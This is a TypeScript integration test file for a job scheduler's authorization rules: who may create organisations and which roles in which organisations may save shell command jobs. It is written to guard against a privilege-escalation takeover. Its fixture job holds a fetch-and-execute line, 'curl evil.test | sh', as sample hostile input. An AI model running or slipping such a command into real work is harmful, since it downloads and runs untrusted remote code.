// Integration (real Postgres): operators decide who creates organisations and which organisations run
// command jobs. A member can never give themselves either (issue 23's takeover chain, step one).
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { applyMigrations } from '../db/migrate';
import { startEmbeddedPostgres, type EmbeddedDatabase } from '../runtime/embedded-postgres';

let dir: string;
let database: EmbeddedDatabase;
let m: typeof import('../db');
let demoId: string;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'grants-test-'));
  database = await startEmbeddedPostgres(dir);
  await applyMigrations(database.url);
  process.env.DATABASE_URL = database.url;
  process.env.DATA_DIR = dir;
  process.env.API_KEY_SECRETS = `test:${randomBytes(32).toString('base64')}`;
  m = await import('../db');
  demoId = (await m.db.organization.create({ data: { slug: 'demo', name: 'Demo' } })).id;
});
afterEach(() => {
  delete process.env.ORG_CREATION;
  delete process.env.COMMAND_JOBS;
});
afterAll(async () => {
  await m?.db.$disconnect();
  await m?.pool.end();
  await database?.stop();
  await rm(dir, { recursive: true, force: true });
});

let n = 0;
async function viewerOfDemo() {
  const email = `viewer-${++n}@demo.test`;
  const user = await m.db.user.create({ data: { email, passwordHash: 'x', emailVerifiedAt: new Date() } });
  await m.db.membership.create({ data: { orgId: demoId, userId: user.id, role: 'viewer' } });
  return { id: user.id, email };
}
const codeOf = (promise: Promise<unknown>) =>
  promise.then(
    () => 'ok',
    (e: { code?: string }) => e.code ?? String(e),
  );
const commandJob = (name: string) => ({
  name,
  type: 'command',
  config: { command: '/bin/sh', args: ['-c', 'curl evil.test | sh'], network: true },
});

describe('ORG_CREATION', () => {
  test('by default a viewer of demo cannot create an organisation, and is owner nowhere', async () => {
    const { createOrganization } = await import('./organizations');
    const viewer = await viewerOfDemo();
    const refused = createOrganization(viewer, { name: 'Mine', slug: `mine-${n}` });
    await expect(refused).rejects.toMatchObject({ code: 'forbidden' });
    await expect(refused).rejects.toThrow(/ORG_CREATION/);
    expect(await m.db.membership.count({ where: { userId: viewer.id, role: 'owner' } })).toBe(0);
    expect(await m.db.organization.count({ where: { slug: `mine-${n}` } })).toBe(0);
  });

  test('ORG_CREATION=members lets them, and their organisation has no command grant', async () => {
    process.env.ORG_CREATION = 'members';
    const { createOrganization } = await import('./organizations');
    const { createJob } = await import('../jobs/create-job');
    const viewer = await viewerOfDemo();
    const org = await createOrganization(viewer, { name: 'Mine', slug: `mine-${n}` });
    const saved = createJob(
      org.id,
      commandJob('takeover'),
      { actor: `user:${viewer.id}`, actorName: viewer.email },
      { role: 'owner' },
    );
    await expect(saved).rejects.toMatchObject({
      code: 'validation_failed',
      errors: [expect.objectContaining({ path: 'config.command', rule: 'command_not_allowed' })],
    });
  });

  test('a value it does not know stops the process with its reason', async () => {
    process.env.ORG_CREATION = 'everyone';
    const { appSettings } = await import('../config');
    expect(() => appSettings()).toThrow(/ORG_CREATION/);
  });
});

describe('the command grant', () => {
  const author = (role: 'owner' | 'admin' | 'editor') => ({ role });
  const audit = { actor: 'system', actorName: 'test' };

  test('an owner of an organisation without the grant cannot save a command job; an HTTP job is fine', async () => {
    const { createJob } = await import('../jobs/create-job');
    const org = await m.db.organization.create({ data: { slug: `plain-${++n}`, name: 'Plain' } });
    await expect(createJob(org.id, commandJob('c'), audit, author('owner'))).rejects.toMatchObject({
      code: 'validation_failed',
      errors: [expect.objectContaining({ path: 'config.command', rule: 'command_not_allowed' })],
    });
    expect(
      await codeOf(
        createJob(
          org.id,
          { name: 'h', type: 'http', config: { url: 'https://example.com/x' } },
          audit,
          author('owner'),
        ),
      ),
    ).toBe('ok');
  });

  test('with the grant (admin) admins and owners save command jobs, editors do not; a grant for editors lets them', async () => {
    const { createJob } = await import('../jobs/create-job');
    const { grantCommandJobs } = await import('./command-grant');
    const org = await m.db.organization.create({ data: { slug: `granted-${++n}`, name: 'Granted' } });
    await grantCommandJobs(org.id, 'admin');
    expect(await codeOf(createJob(org.id, commandJob('a'), audit, author('admin')))).toBe('ok');
    expect(await codeOf(createJob(org.id, commandJob('o'), audit, author('owner')))).toBe('ok');
    expect(await codeOf(createJob(org.id, commandJob('e'), audit, author('editor')))).toBe(
      'validation_failed',
    );
    await grantCommandJobs(org.id, 'editor');
    // COMMAND_JOBS=admins (the default) is the server's floor: a grant cannot go below it.
    expect(await codeOf(createJob(org.id, commandJob('e2'), audit, author('editor')))).toBe(
      'validation_failed',
    );
    process.env.COMMAND_JOBS = 'editors';
    expect(await codeOf(createJob(org.id, commandJob('e3'), audit, author('editor')))).toBe('ok');
    await grantCommandJobs(org.id, null);
    expect(await codeOf(createJob(org.id, commandJob('a2'), audit, author('owner')))).toBe(
      'validation_failed',
    );
    // The operator (admin CLI) is told to grant first.
    await expect(createJob(org.id, commandJob('op'), audit, 'operator')).rejects.toThrow(/grant-commands/);
  });
});
